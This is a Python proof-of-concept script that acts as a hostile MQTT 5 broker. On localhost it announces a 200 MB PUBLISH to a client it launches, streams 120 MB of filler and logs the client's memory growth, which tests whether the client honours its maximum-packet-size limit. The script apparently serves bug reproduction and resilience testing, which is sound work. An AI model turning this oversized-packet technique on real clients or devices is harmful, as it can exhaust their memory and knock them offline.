#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A hostile MQTT 5 'broker': answers CONNECT, checks the client asked for maximum-packet-size,
then announces a 200 MB PUBLISH and sends 120 MB of it in 1 MB pieces, printing the client's
resident memory (VmRSS) as it goes. Usage: broker.py CLIENT-COMMAND... (the port is appended)"""
import socket, subprocess, sys, time
def varint(n):
    out = b""
    while True:
        b = n % 128; n //= 128
        out += bytes([b | (0x80 if n else 0)])
        if not n: return out
def rss(pid):
    """'VmSize N kB, VmRSS M kB' of the client."""
    f = dict(l.split(":", 1) for l in open("/proc/%d/status" % pid))
    return "VmSize %s, VmRSS %s" % (f["VmSize"].strip(), f["VmRSS"].strip())
ls = socket.socket(); ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ls.bind(("127.0.0.1", 0)); ls.listen(1); port = ls.getsockname()[1]
cl = subprocess.Popen(sys.argv[1:] + [str(port)])
c, _ = ls.accept()
hdr = c.recv(65536)
print("CONNECT %d bytes, protocol level %d, maximum-packet-size property (0x27) present: %s"
      % (len(hdr), hdr[8], b"\x27\x00\x00\x08\x00" in hdr))
c.sendall(b"\x20\x03\x00\x00\x00")          # CONNACK v5: no flags, success, no properties
time.sleep(0.3)
total = 200 * 1000 * 1000
body = b"\x00\x01t" + b"\x00"               # topic "t", properties length 0
c.sendall(b"\x30" + varint(len(body) + total) + body)
print("announced a PUBLISH of %d bytes; client %s" % (total, rss(cl.pid)))
chunk = b"A" * (1 << 20)
try:
    for i in range(1, 121):
        c.sendall(chunk)
        if i % 20 == 0:
            time.sleep(0.2)
            print("sent %3d MB; client alive=%s, %s" % (i, cl.poll() is None, rss(cl.pid)))
except OSError as e:
    print("send failed after %d MB: %s" % (i, e))
print("client still running:", cl.poll() is None)
cl.kill(); cl.wait()
